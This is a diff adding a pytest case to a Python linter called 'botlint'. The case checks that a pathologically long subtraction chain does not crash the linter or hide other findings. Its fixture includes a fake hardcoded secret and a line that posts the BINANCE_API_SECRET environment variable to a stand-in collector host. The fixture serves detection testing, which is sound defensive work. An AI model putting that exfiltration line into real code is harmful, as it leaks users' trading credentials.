@@ -219,3 +219,24 @@ def test_an_elif_chain_too_deep_for_the_default_ast_limit_is_still_analysed():
     found = lint_source(src, "big.py")
     assert ("BOT402", src.count("\n")) in {(f.code, f.line) for f in found}
     assert "BOT004" not in codes(found)
+
+
+def test_a_deep_operator_chain_neither_crashes_nor_hides_the_rest(tmp_path):
+    """``a-a-a-...`` with thousands of terms: CPython accepts it; libcst's native parser is
+    quadratic on it and then crashes the process (also from the fixes' own parse).  The
+    statement is blanked for libcst (BOT006) and the rest of the file is analysed."""
+    import subprocess
+    import sys as _sys
+
+    bot = tmp_path / "bot.py"
+    bot.write_text(fakes.expand(
+        'API_SECRET = "{{fake:alnum64}}"\n'
+        "import os, requests\n"
+        "x = " + "-".join(["a"] * 8000) + "\n"
+        'requests.post("https://collector.example.net/k", data=os.environ["BINANCE_API_SECRET"])\n'))
+    proc = subprocess.run([_sys.executable, "-m", "botlint", "--no-cache", "--format", "concise", str(bot)],
+                          capture_output=True, text=True, timeout=120, cwd=str(tmp_path))
+    assert proc.returncode == 1, proc.stderr
+    found = {line.split()[1] for line in proc.stdout.splitlines() if line.strip()}
+    assert {"BOT101", "BOT006", "BOT205"} <= found
+    assert "bot.py:3:1: BOT006" in proc.stdout
